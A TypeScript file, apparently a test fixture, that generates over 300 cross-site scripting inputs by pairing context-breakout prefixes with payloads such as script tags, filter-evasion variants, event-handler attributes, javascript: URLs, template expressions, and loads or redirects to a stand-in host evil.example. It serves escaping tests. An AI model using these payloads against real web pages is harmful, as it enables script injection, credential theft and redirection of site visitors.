// Texts that would run a script, load from elsewhere or change the page, if they were written as they stand (reliability R-B14). What they run is `x()`.

/** Out of what the text may stand in: an attribute, an element of text, a comment, a template. */
const WAYS_OUT = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '</style>', '</script>', '-->', ']]>', '<!--'];
const MARKUP = [
  '<script>x()</script>',
  '<ScRiPt/>x()</sCrIpT>',
  '<scr<script>ipt>x()</script>',
  '<img src=x onerror=x()>',
  '<img/src=x/onerror=x()//',
  '<svg onload=x()>',
  '<svg><script>x()</script></svg>',
  '<math><mtext><img src=x onerror=x()>',
  '<iframe srcdoc="<script>parent.x()</script>">',
  '<details open ontoggle=x()>a</details>',
  '<input autofocus onfocus=x()>',
  ' autofocus onfocus=x() tabindex=1 ',
  '<a href="javascript:x()">a</a>',
  '<object data="javascript:x()">',
  '<video><source onerror=x()>',
  '<body onload=x()>',
  '<style>@import "http://evil.example/a.css"</style>',
  ' style=background:url(http://evil.example/a) ',
  '<link rel=stylesheet href=http://evil.example/a>',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<base href=http://evil.example/>',
  '<form action=http://evil.example><button>a</button>',
  '<%= x() %>',
  '<%~ it.x %>',
  '{{x()}}${x()}',
  '&lt;script&gt;x()&lt;/script&gt;',
];

/** More than 300 of them. */
export const HOSTILE_MARKUP: readonly string[] = WAYS_OUT.flatMap((way) => MARKUP.map((markup) => way + markup));
